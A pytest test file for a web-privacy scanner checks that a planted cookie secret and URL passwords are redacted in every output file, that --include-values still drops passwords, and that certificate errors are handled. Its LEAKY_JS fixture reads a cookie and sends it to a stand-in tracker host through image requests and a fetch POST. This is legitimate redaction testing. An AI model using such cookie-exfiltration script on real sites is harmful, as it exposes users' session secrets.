"""Nothing leaks: a secret planted as a cookie value, copied by the page into tracker URLs, a
request body, storage, the title, a dialog and links, and a password in URLs, are searched
for in everything the scan writes — stdout, stderr, the -o file, the HAR files and every
file (contents and names) under --output-dir; and a certificate for another host is an
error on its own page only."""

from __future__ import annotations

import base64
import hashlib
import json

import pytest

from tests.scanner.cli_process import Run
from tests.testweb import Response, TestWeb, html

pytestmark = pytest.mark.browser

SECRET = "Zx9-GEHEIM-4711-plant"
PASSWORD = "wachtwoord-8812"
HOST = "www.geheimstad.nl"
TRACKER = "meet.geheim-analytics.nl"

LEAKY_JS = f"""
const value = document.cookie.split('; ').find(c => c.startsWith('geheim=')).split('=')[1];
new Image().src = 'https://{TRACKER}/px?q=' + value + '&r=' + encodeURIComponent(value);
new Image().src = 'https://{TRACKER}/p/' + value + '.gif';
fetch('https://{TRACKER}/collect', {{method: 'POST', body: 'payload=' + value, mode: 'no-cors'}});
localStorage.setItem('kopie', value);
localStorage.setItem('sleutel-' + value, '1');
document.title = 'Titel ' + value;
const a = document.createElement('a'); a.href = 'https://extern.nl/?s=' + value; a.textContent = 'extern';
document.body.appendChild(a);
alert('melding ' + value);
"""


@pytest.fixture(scope="module")
def leaky_site(testweb):
    testweb.route(HOST, "/", html(
        f'<a href="/tweede">tweede</a><a href="https://jan:{PASSWORD}@extern.nl/login">login</a>'
        f'<img src="https://jan:{PASSWORD}@{TRACKER}/auth.gif">',
        title="Geheimstad", set_cookies=[f"geheim={SECRET}; Path=/; Max-Age=3600; Secure"]))
    testweb.route(HOST, "/tweede", html(f"<p>tweede</p><script>{LEAKY_JS}</script>", title="Tweede"))
    for path in ("/px", "/collect", "/auth.gif"):
        testweb.route(TRACKER, path, Response(b"GIF89a", content_type="image/gif"))
    testweb.fallback(TRACKER, lambda request: Response(b"GIF89a", content_type="image/gif"))
    return f"https://{HOST}/"


def test_planted_secret_appears_nowhere(leaky_site, testweb, tmp_path):
    """Three phases, -o, --har, --output-dir, JSON and table output: the secret and the password
    are in none of them, though the evidence (the requests, the storage keys) is recorded."""
    out_dir = tmp_path / "artefacten"
    har = tmp_path / "verkeer.har"
    result_file = tmp_path / "scan.json"
    run = Run(tmp_path, [leaky_site, "--consent", "all", "--insecure", "--pages", "2", "--format", "json",
                         "-o", str(result_file), "--har", str(har), "--output-dir", str(out_dir),
                         "--url", f"https://jan:{PASSWORD}@{HOST}/tweede", "--browser-arg", testweb.browser_args[0]])
    assert run.finish(300) == 0, run.err
    run.assert_clean_exit()
    written = [result_file] + sorted(tmp_path.glob("verkeer*.har")) + sorted(p for p in out_dir.rglob("*") if p.is_file())
    assert len(sorted(tmp_path.glob("verkeer*.har"))) == 3  # one per phase
    needles = [SECRET.encode(), PASSWORD.encode(), base64.b64encode(SECRET.encode())]
    for blob, where in [(run.out, "stdout"), (run.err, "stderr")] + [(p.read_bytes(), str(p)) for p in written]:
        for needle in needles:
            assert needle not in blob, f"{needle!r} in {where}"
    for path in written:
        assert SECRET not in path.name and PASSWORD not in path.name
    data = json.loads(result_file.read_text())
    tracked = [r["url"] for g in data["requests"] for r in g["requests"] if r["host"] == TRACKER]
    assert any("/px?q=REDACTED" in url for url in tracked) and any("/p/REDACTED.gif" in url for url in tracked)
    assert {"kopie", "sleutel-REDACTED"} <= {s["key"] for s in data["storage"]}
    assert any(p["title"] == "Titel REDACTED" for p in data["pages"])
    assert any(d["message"] == "melding REDACTED" for p in data["pages"] for d in p["dialogs"])
    cookie = next(c for c in data["cookies"] if c["name"] == "geheim")
    assert cookie["value"]["sha256"] == hashlib.sha256(SECRET.encode()).hexdigest()[:12]
    har_text = har.with_name("verkeer.before_consent.har").read_text()
    assert "geheim=REDACTED" in har_text


def test_include_values_keeps_values_but_never_passwords(leaky_site, testweb, tmp_path):
    """With --include-values the secret is kept (the user asked), credentials still are not."""
    result_file = tmp_path / "scan.json"
    run = Run(tmp_path, [leaky_site, "--consent", "none", "--insecure", "--pages", "2", "--include-values",
                         "-o", str(result_file), "--browser-arg", testweb.browser_args[0]])
    assert run.finish(200) == 0, run.err
    text = result_file.read_text()
    assert SECRET in text and PASSWORD not in text and PASSWORD.encode() not in run.out
    run.assert_clean_exit()


def test_certificate_for_another_host_is_an_error_on_its_page(testweb, tmp_path):
    """Without --insecure, the test web is trusted by its key; one subdomain is served by a
    server whose certificate names other hosts (and is not trusted): that page is a
    certificate error, the rest of the site is scanned, exit 0."""
    host = "www.certstad.nl"
    testweb.route(host, "/", html('<a href="https://oud.certstad.nl/">oud</a><a href="/na">na</a>', title="Cert"))
    testweb.route(host, "/na", html("<p>na</p>", title="Na"))
    with TestWeb() as other:  # its certificate covers localhost only: the wrong host for oud.certstad.nl
        other.route("oud.certstad.nl", "/", html("<p>oud</p>", title="Oud"))
        rules = f"--host-resolver-rules=MAP oud.certstad.nl 127.0.0.1:{other.port}, MAP * 127.0.0.1:{testweb.port}"
        trust = testweb.browser_args[1]  # trusts the test web's key, not the other server's
        result_file = tmp_path / "scan.json"
        run = Run(tmp_path, [f"https://{host}/", "--consent", "none", "--pages", "3", "-o", str(result_file),
                             "--browser-arg", rules, "--browser-arg", trust])
        assert run.finish(200) == 0, run.err
    data = json.loads(result_file.read_text())
    errors = {e["url"]: e for e in data["errors"] if e["url"]}
    assert errors["https://oud.certstad.nl/"]["kind"] == "navigation"
    assert "ERR_CERT_" in errors["https://oud.certstad.nl/"]["message"]
    assert [p["title"] for p in data["pages"]] == ["Cert", None, "Na"]
    run.assert_clean_exit()
